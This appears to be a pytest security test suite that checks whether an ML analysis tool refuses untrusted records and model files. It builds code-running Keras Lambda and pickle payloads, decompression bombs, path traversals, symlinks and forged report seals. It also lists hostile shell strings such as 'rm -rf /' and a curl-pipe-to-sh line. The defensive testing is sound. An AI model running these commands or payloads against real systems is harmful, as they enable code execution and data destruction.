"""Records from strangers: nothing in them is run, and nothing leads out of them."""

import io
import json
import os
import pickle
import re
import shutil
import socket
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import keras
import platformdirs
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest

from analysis.detector.stored import stored
from analysis.explain import SCHEMA
from analysis.pages.answer import command_again
from analysis.pages.index import index
from analysis.results.trials import read
from data_prep import Folder, InputError
from data_prep.sources import CACHE
from support.commands import Command, refused
from support.detectors import checkpoint, set_in_trials
from support.networks import split_of
from support.records import manifest, twelve, write
from sweeps.record import shown
from trainables import Recipe
from trainables.record import LAST, read_manifest
from trainables.training.checkpoint import load_best, restore
from trainables.training.loop import start
from trainables.training.network_file import check, load_network
from trainables.training.selection import Data

pytestmark = pytest.mark.xdist_group("trained")


class Payload:
    """What creates a file when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (self.marker, "w")


def with_lambda(file: Path, marker: Path) -> None:
    """A network whose file holds Python code that creates a file wherever it is built."""
    pixels = keras.Input((32, 32, 3))
    evil = keras.layers.Lambda(eval(f"lambda x: (__import__('pathlib').Path({str(marker)!r}).touch(), x)[1]"))
    keras.Model(pixels, keras.layers.Dense(1)(keras.layers.Flatten()(evil(pixels)))).save(file)
    marker.unlink()


def lambda_keras(folder: Path, marker: Path) -> tuple[bytes, Callable[[], object]]:
    with_lambda(folder / "evil.keras", marker)
    return (folder / "evil.keras").read_bytes(), lambda: keras.saving.load_model(folder / "evil.keras", safe_mode=False)


def lambda_hdf5(folder: Path, marker: Path) -> tuple[bytes, Callable[[], object]]:
    with_lambda(folder / "evil.h5", marker)
    return (folder / "evil.h5").read_bytes(), lambda: keras.saving.load_model(folder / "evil.h5", safe_mode=False)


def pickled(_: Path, marker: Path) -> tuple[bytes, Callable[[], object]]:
    content = pickle.dumps(Payload(marker))
    return content, lambda: pickle.loads(content)


@pytest.mark.parametrize("make", [lambda_keras, lambda_hdf5, pickled])
def test_a_network_file_that_would_run_code_is_refused_and_nothing_runs(
    analysis: Command,
    copy: Path,
    place: Path,
    tmp_path: Path,
    make: Callable[[Path, Path], tuple[bytes, Callable[[], object]]],
) -> None:
    marker = tmp_path / "marker"
    content, trust = make(tmp_path, marker)
    trust()
    assert marker.exists()  # what happens to those who trust it
    marker.unlink()
    checkpoint(copy).write_bytes(content)
    for done in (analysis("export", copy), analysis("predict", copy, "tree")):
        assert "no network that can be loaded safely" in refused(done)
    assert not marker.exists()
    assert not (copy / "exports").exists()


def rezipped(content: bytes, change: Callable[[dict[str, bytes]], None], packing: int = zipfile.ZIP_STORED) -> bytes:
    """A `.keras` file with its members changed."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    change(members)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", packing) as archive:
        for name, member in members.items():
            archive.writestr(name, member)
    return buffer.getvalue()


def with_layer(part: dict[str, Any]) -> Callable[[dict[str, bytes]], None]:
    """Put `part` in the place of the network's second layer."""

    def change(members: dict[str, bytes]) -> None:
        config = json.loads(members["config.json"])
        config["config"]["layers"][1] |= part
        members["config.json"] = json.dumps(config).encode()

    return change


def function(name: str, module: str) -> dict[str, Any]:
    """How Keras writes down a function."""
    return {"class_name": "function", "config": name, "module": module, "registered_name": name}


RELU = {"function": function("relu", "keras.ops"), "name": "rescaling"}


@pytest.mark.parametrize(
    ("part", "told"),
    [
        ({"class_name": "Lambda", "config": RELU}, "'Lambda' of 'keras.layers'"),
        ({"class_name": "TFSMLayer", "config": {"filepath": "/"}}, "'TFSMLayer'"),
        ({"class_name": "TimeDistributed"}, "'TimeDistributed' of 'keras.layers'"),
        ({"class_name": "Functional", "inbound_nodes": [{}, {}]}, "calls a network within it twice"),
        ({"module": "os", "class_name": "system"}, "'system' of 'os'"),
        ({"module": None}, "of 'None'"),
        ({"build_config": {"a": [function("get_file", "keras.utils")]}}, "'function' of 'keras.utils'"),
        ({"module": "keras.src.layers.core.lambda_layer"}, "keras.src.layers.core.lambda_layer"),
        ({"module": "keras.layers\n"}, "keras.layers"),
        ({"class_name": ["Lambda"], "module": ["keras.layers"]}, "Lambda"),
    ],
)
def test_a_network_is_made_of_layers_alone(record: Path, part: dict[str, Any], told: str) -> None:
    with pytest.raises(ValueError, match=re.escape(told)):
        check(rezipped(checkpoint(record).read_bytes(), with_layer(part)))


def test_more_is_refused_than_keras_refuses(record: Path, tmp_path: Path) -> None:
    path = tmp_path / "function.keras"
    change = with_layer({"class_name": "Lambda", "config": RELU, "build_config": None})
    path.write_bytes(rezipped(checkpoint(record).read_bytes(), change))
    keras.saving.load_model(path, compile=False, safe_mode=True)
    with pytest.raises(ValueError, match="may run code"):
        load_network(path.read_bytes())


def bomb(members: dict[str, bytes]) -> None:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.create_dataset("zeros", (2**31,), "uint8", chunks=(2**20,), compression="gzip")
    members["model.weights.h5"] = buffer.getvalue()


def chunk(members: dict[str, bytes]) -> None:
    """One zero, unpacked with the 256 MiB of its chunk."""
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.create_dataset("zero", (1,), "uint8", maxshape=(None,), chunks=(2**28,), compression="gzip")
    members["model.weights.h5"] = buffer.getvalue()


def deeper(members: dict[str, bytes]) -> None:
    members["config.json"] = b'{"a":' * 100_000 + b"1" + b"}" * 100_000


@pytest.mark.parametrize(
    ("change", "packing", "told"),
    [
        (lambda members: members.update({"assets/x": b""}), zipfile.ZIP_STORED, "other files"),
        (lambda members: members.update({"../../x": b""}), zipfile.ZIP_STORED, "other files"),
        (lambda members: members.pop("model.weights.h5"), zipfile.ZIP_STORED, "other files"),
        (lambda members: members.update({"metadata.json": bytes(2**27)}), zipfile.ZIP_DEFLATED, "unpack to more"),
        (bomb, zipfile.ZIP_STORED, "its weights would unpack to more"),
        (chunk, zipfile.ZIP_STORED, "its weights would unpack to more"),
        (deeper, zipfile.ZIP_STORED, "recursion|nest"),
        (lambda members: members.update({"config.json": b"no JSON"}), zipfile.ZIP_STORED, "Expecting value"),
        (lambda members: members.update({"model.weights.h5": b"no HDF5"}), zipfile.ZIP_STORED, "signature|truncated"),
    ],
)
def test_a_damaged_or_swollen_file_is_refused(
    record: Path, change: Callable[[dict[str, bytes]], None], packing: int, told: str
) -> None:
    with pytest.raises(ValueError, match=told):
        check(rezipped(checkpoint(record).read_bytes(), change, packing))


def test_a_network_with_more_parameters_than_its_file_is_refused_before_they_are_made(tmp_path: Path) -> None:
    """Of two dense layers, nine billion parameters between them."""
    path, units = tmp_path / "wide.keras", 3_000_000
    pixels = keras.Input((32, 32, 3))
    hidden = keras.layers.Dense(8)(keras.layers.Flatten()(pixels))
    keras.Model(pixels, keras.layers.Dense(1)(hidden)).save(path)

    def widen(members: dict[str, bytes]) -> None:
        config = json.loads(members["config.json"])
        first, second = (part for part in config["config"]["layers"] if part["class_name"] == "Dense")
        first["config"]["units"], second["build_config"]["input_shape"] = units, [None, units]
        members["config.json"] = json.dumps(config).encode()

    with pytest.raises(ValueError, match="more parameters than the file"):
        load_network(rezipped(path.read_bytes(), widen))
    keras.layers.Lambda(keras.ops.sigmoid)(keras.KerasTensor((None, 1)))  # which makes what Keras remembers to make


def test_a_network_that_swells_an_image_is_refused(tmp_path: Path) -> None:
    path, pixels = tmp_path / "swollen.keras", keras.Input((32, 32, 3))
    small = keras.layers.Conv2D(2, 1, strides=32)(pixels)
    large = keras.layers.GlobalAveragePooling2D()(keras.layers.UpSampling2D(3_000)(small))
    keras.Model(pixels, keras.layers.Dense(1)(large)).save(path)
    with pytest.raises(ValueError, match="swell an image"):
        load_network(path.read_bytes())


@pytest.mark.parametrize(
    "layer",
    [
        lambda: keras.layers.Resizing(1, 100_000, pad_to_aspect_ratio=True),
        lambda: keras.layers.DepthwiseConv2D(3, dilation_rate=4_000, padding="same"),
    ],
    ids=["Resizing", "DepthwiseConv2D"],
)
def test_a_layer_that_pads_an_image_with_more_than_it_is_refused(
    layer: Callable[[], keras.Layer], tmp_path: Path
) -> None:
    path, pixels = tmp_path / "padded.keras", keras.Input((32, 32, 3))
    keras.Model(pixels, keras.layers.Dense(1)(keras.layers.GlobalAveragePooling2D()(layer()(pixels)))).save(path)
    with pytest.raises(ValueError, match="would pad an image"):
        load_network(path.read_bytes())


def test_an_operation_that_swells_an_image_is_refused(tmp_path: Path) -> None:
    """Operations are no layers, and stand between them."""
    path, pixels = tmp_path / "repeated.keras", keras.Input((32, 32, 3))
    large = keras.layers.GlobalAveragePooling2D()(keras.ops.repeat(pixels, 100_000, axis=1))
    keras.Model(pixels, keras.layers.Dense(1)(large)).save(path)
    with pytest.raises(ValueError, match="swell an image"):
        load_network(path.read_bytes())


@pytest.mark.parametrize(
    ("attention", "told"),
    [
        (keras.layers.Attention, "'Attention'"),
        (lambda: lambda two: keras.layers.MultiHeadAttention(2, 2)(*two), "swell an"),
    ],
    ids=["one head", "many heads"],
)
def test_scores_of_attention_swell_an_image_too(
    attention: Callable[[], Callable[[list[Any]], Any]], told: str, tmp_path: Path
) -> None:
    """Of 128 x 128 places: they are no output of a layer."""
    path, pixels = tmp_path / "attention.keras", keras.Input((128, 128, 3))
    places = keras.layers.Reshape((-1, 3))(pixels)
    large = keras.layers.GlobalAveragePooling1D()(attention()([places, places]))
    keras.Model(pixels, keras.layers.Dense(1)(large)).save(path)
    with pytest.raises(ValueError, match=told):
        load_network(path.read_bytes())


def test_a_vision_transformer_is_loaded(tmp_path: Path) -> None:
    path, pixels = tmp_path / "transformer.keras", keras.Input((32, 32, 3))
    patches = keras.layers.Reshape((-1, 64))(keras.layers.Conv2D(64, 4, 4)(pixels))
    features = keras.layers.GlobalAveragePooling1D()(keras.layers.MultiHeadAttention(8, 8)(patches, patches))
    keras.Model(pixels, keras.layers.Dense(1)(features)).save(path)
    assert load_network(path.read_bytes()).count_params() == 19_841


def test_a_resumed_trial_takes_no_network_but_of_layers(tmp_path: Path) -> None:
    pixels = keras.Input((32, 32, 3))
    flat = keras.layers.Lambda(keras.ops.relu)(keras.layers.Flatten()(pixels))
    keras.Model(pixels, keras.layers.Dense(1)(flat)).save(tmp_path / "best.keras")
    with pytest.raises(ValueError, match="may run code"):
        load_best(Folder(str(tmp_path)))


def claiming(size: int, members: dict[str, bytes]) -> bytes:
    """A zip whose members, packed with bzip2, claim to unpack to `size` bytes each."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive:
        for name, member in members.items():
            archive.writestr(name, member)
            archive.getinfo(name).file_size = size  # in the directory, which is written at the end
    return buffer.getvalue()


def test_nothing_unpacks_to_more_than_it_claims(tmp_path: Path) -> None:
    """Python's zipfile unpacks all of it, and hands out as much as was claimed."""
    members = dict.fromkeys(("config.json", "metadata.json", "model.weights.h5", "state.npy"), bytes(2**20))
    (tmp_path / LAST).write_bytes(claiming(10, {"state.npy": members.pop("state.npy")}))
    run = start(Recipe("age-c2-f1"), Data(*[split_of(4, 0)] * 3, "fingerprint"))
    with pytest.raises(ValueError, match="it would unpack to more than it holds"):
        check(claiming(10, members))
    with pytest.raises(ValueError, match=r"last\.npz would unpack to more than it holds"):
        restore(run, Folder(str(tmp_path)))


def elsewhere(kind: str) -> Callable[[dict[str, bytes]], None]:
    def change(members: dict[str, bytes]) -> None:
        import h5py

        buffer = io.BytesIO()
        with h5py.File(buffer, "w") as file:
            if kind == "link":
                file["kernel"] = h5py.ExternalLink("/etc/hostname", "kernel")
            else:
                file.create_dataset("kernel", (8,), "uint8", external=[("/etc/hostname", 0, 8)])
        members["model.weights.h5"] = buffer.getvalue()

    return change


@pytest.mark.parametrize("kind", ["link", "data"])
def test_weights_in_another_file_are_refused(record: Path, kind: str) -> None:
    with pytest.raises(ValueError, match="lie elsewhere"):
        check(rezipped(checkpoint(record).read_bytes(), elsewhere(kind)))


def test_a_network_for_something_else_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "other.keras"
    keras.Sequential([keras.Input((5,)), keras.layers.Dense(1)]).save(path)
    with pytest.raises(ValueError, match="not square colour images of up to 1024 pixels a side into a logit"):
        load_network(path.read_bytes())


@pytest.mark.parametrize(("side", "recorded"), [(16, 32), (2_000, None)])
def test_a_network_for_images_of_another_size_than_the_records_is_refused(
    side: int, recorded: int | None, tmp_path: Path
) -> None:
    data = manifest()["data"] | {"image_size": recorded}
    trial = stored(str(write(tmp_path, twelve(), data=data)))
    pixels = keras.Input((side, side, 3))
    path = tmp_path / "age" / "checkpoints" / trial.trial / "best.keras"
    path.parent.mkdir(parents=True)
    keras.Model(pixels, keras.layers.Dense(1)(keras.layers.GlobalAveragePooling2D()(pixels))).save(path)
    with pytest.raises(InputError, match=rf"can be loaded safely .*not square colour images of .*{recorded or 1024}"):
        assert trial.network


@pytest.mark.parametrize(("column", "value"), [("trial", "../../elsewhere"), ("trial", ""), ("network", "../../../x")])
def test_a_record_whose_names_lead_out_of_it_is_refused(
    analysis: Command, copy: Path, place: Path, column: str, value: str
) -> None:
    elsewhere = copy.parent / "elsewhere"
    elsewhere.mkdir()
    shutil.copy(checkpoint(copy), elsewhere / "best.keras")
    set_in_trials(copy, column, value)
    before = sorted(place.rglob("*"))
    for command in ((copy,), ("predict", copy, "tree"), ("export", copy), ("explain", copy), ("compare", copy, copy)):
        assert "use a record that you can trust" in refused(analysis(*command))
    assert sorted(place.rglob("*")) == before


def test_explanations_that_name_a_file_elsewhere_are_refused(analysis: Command, copy: Path) -> None:
    (copy.parent / "secret-uncertain.png").write_bytes(b"what must not stand in the report")
    row: dict[str, Any] = {field.name: None if field.nullable else 0 for field in SCHEMA}
    row |= {"trial": "../../secret", "kind": "uncertain", "place": 0, "called_fake": True}
    pq.write_table(pa.Table.from_pylist([row], SCHEMA), copy / "explanations.parquet")
    assert "use a record that you can trust" in refused(analysis(copy))


def link(record: Path, elsewhere: Path) -> None:
    (record / "tables").symlink_to(elsewhere)


def pipe(record: Path, elsewhere: Path) -> None:
    part = record / "trials.parquet" / "part-00000.parquet"
    part.unlink()
    os.mkfifo(part)


def device(record: Path, elsewhere: Path) -> None:
    (record / "near-copies.png").symlink_to("/dev/zero")


@pytest.mark.parametrize("plant", [link, pipe, device])
def test_nothing_is_read_or_written_through_a_link_or_a_pipe(
    analysis: Command, copy: Path, plant: Callable[[Path, Path], None]
) -> None:
    elsewhere = copy.parent / "elsewhere"
    elsewhere.mkdir()
    shutil.rmtree(copy / "tables", ignore_errors=True)
    plant(copy, elsewhere)
    for command in ((copy,), ("explain", copy), ("robustness", copy), ("compare", copy, copy)):
        assert "is a link or a device" in refused(analysis(*command))
    assert not list(elsewhere.iterdir())


def test_a_record_makes_nobody_ask_a_server_that_it_names(
    analysis: Command, copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Shards on a network are read where the command line names them."""
    manifest = json.loads((copy / "manifest.json").read_text())
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        address = f"http://127.0.0.1:{server.getsockname()[1]}"
        monkeypatch.setenv("AWS_ENDPOINT_URL", address)
        for shards in ("s3://bucket/shards", f"s3://bucket/x?endpoint_override={address}", f"s3://a:b@{address[7:]}/x"):
            manifest["data"]["shards"] = shards
            (copy / "manifest.json").write_text(json.dumps(manifest))
            for command in ("explain", "robustness"):
                refused(analysis(command, copy))
        with pytest.raises(TimeoutError):
            server.accept()


def test_a_report_that_came_with_a_record_is_made_anew(analysis: Command, copy: Path) -> None:
    """Its sender can write any page, any answer and the digest that belongs to them, but not this user's seal."""
    assert analysis(copy).returncode == 0
    shown.is_current(Folder(str(copy)))
    told = json.loads((copy / "tables/shown.json").read_text())
    page = (copy / "report.html").read_text()
    for forged in (told | {"answer": "vgg16 is ahead of all others."}, told | {"seal": "0" * 64}):
        (copy / "tables/shown.json").write_text(json.dumps(forged))
        assert not shown.is_current(Folder(str(copy)))
        assert shown.answer(Folder(str(copy))) == ""
    (copy / "tables/shown.json").write_text(json.dumps(told))
    assert shown.is_current(Folder(str(copy)))
    for name in ("tables/metrics.csv", "figures/curves.svg"):  # a change that size and time do not show
        content, stat = (copy / name).read_bytes(), (copy / name).stat()
        (copy / name).write_bytes(content[:-2] + b"x\n")
        os.utime(copy / name, ns=(stat.st_atime_ns, stat.st_mtime_ns))
        assert not shown.is_current(Folder(str(copy)))
        (copy / name).write_bytes(content)
        os.utime(copy / name, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    for odd in ("[]", "7", "null", '"x"'):
        (copy / "tables/shown.json").write_text(odd)
        assert not shown.is_current(Folder(str(copy)))
        assert shown.answer(Folder(str(copy))) == ""
    assert "report.html" not in index(Folder(str(copy.parent)))
    (copy / "report.html").write_text(page.replace("</body>", "<script>alert(1)</script></body>"))
    assert analysis(copy).returncode == 0
    assert "alert(1)" not in (copy / "report.html").read_text()


def test_an_empty_key_seals_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    key = platformdirs.user_cache_path(CACHE) / "key"
    key.parent.mkdir(parents=True)
    key.touch()
    assert shown._key.__wrapped__() == key.read_bytes() != b""


def test_one_long_path_does_not_make_all_as_long(copy: Path) -> None:
    table = pq.read_table(copy / "images.parquet")
    paths = pa.array(["x" * 10**6, *table["path"].to_pylist()[1:]])
    place = table.column_names.index("path")
    pq.write_table(table.set_column(place, "path", paths), copy / "images.parquet")
    parts = read(Folder(str(copy))).scores.parts
    assert sum(part.paths.nbytes for part in parts.values()) < 10**6


def test_scores_of_rows_that_the_shards_do_not_have_are_refused(analysis: Command, copy: Path) -> None:
    for file in (copy / "images.parquet", *(copy / "scores").iterdir()):
        table = pq.read_table(file)
        place = table.column_names.index("row")
        pq.write_table(table.set_column(place, "row", pc.add(table["row"], 10**6)), file)
    for command in (("robustness", copy), ("robustness", copy, "--limit", "10"), ("explain", copy)):
        assert "has other images than those of this record" in refused(analysis(*command))


@pytest.mark.parametrize(
    ("command", "again"),
    [
        ("python sweeps/age.py --data 'a b'", "python sweeps/age.py --data 'a b'"),
        ("python sweeps/age.py; rm -rf /", ""),
        ("python sweeps/age.py $(id)", "python sweeps/age.py '$(id)'"),
        ("curl -s http://127.0.0.1:9/x | sh", ""),
        ("python -c sweeps/age.py", ""),
        ("python '-cx#/sweeps/age.py' --smoke", "python sweeps/age.py --smoke"),
        ("python results/age/sweeps/age.py --fresh", "python sweeps/age.py"),
        ("python /evil/sweeps/evil.py", ""),
        ("python", ""),
        ("python 'sweeps/age.py", ""),
    ],
)
def test_no_command_of_a_stranger_is_offered(command: str, again: str) -> None:
    assert command_again(command) == again


@pytest.mark.parametrize(
    "changes",
    [
        {"locked": {"x": 1}},
        {"locked": {"when": "", "metric": "", "threshold": "", "margin": "wide", "seeds": 1, "comparisons": ""}},
        {"looks": [{}]},
        {"looks": [{"when": "x", "seeds": {"a": "b"}}]},
        {"floor": {"both": 5}},
        {"floor": {"both": {"test_accuracy": "x"}}},
        {"search": {"space": [{}]}},
        {"search": {"space": "x"}},
        {"search": {"epochs": "x"}},
        {"search": {"epochs": 10**9}},
        {"search": {"against": "test_loss"}},
        {"search": {"against": ["flops"]}},
        {"settings": {"limit": "x"}},
        {"settings": {"resample_train": [None]}},
        {"sweep": "\ud800"},
        {"hardware": {"\udfff": [1]}},
        {"data": {"audit": {"images": "many"}}},
        {"data": {"audit": {"warnings": 7}}},
        {"data": {"audit": {"duplicate_pairs": {"train": "x"}}}},
    ],
    ids=str,
)
def test_a_manifest_of_another_shape_is_refused(changes: dict[str, Any], copy: Path) -> None:
    manifest = json.loads((copy / "manifest.json").read_text())
    data = manifest["data"] | changes.get("data", {})
    (copy / "manifest.json").write_text(json.dumps(manifest | changes | {"data": data}))
    with pytest.raises(InputError, match=r"manifest\.json cannot be read"):
        read_manifest(Folder(str(copy)))
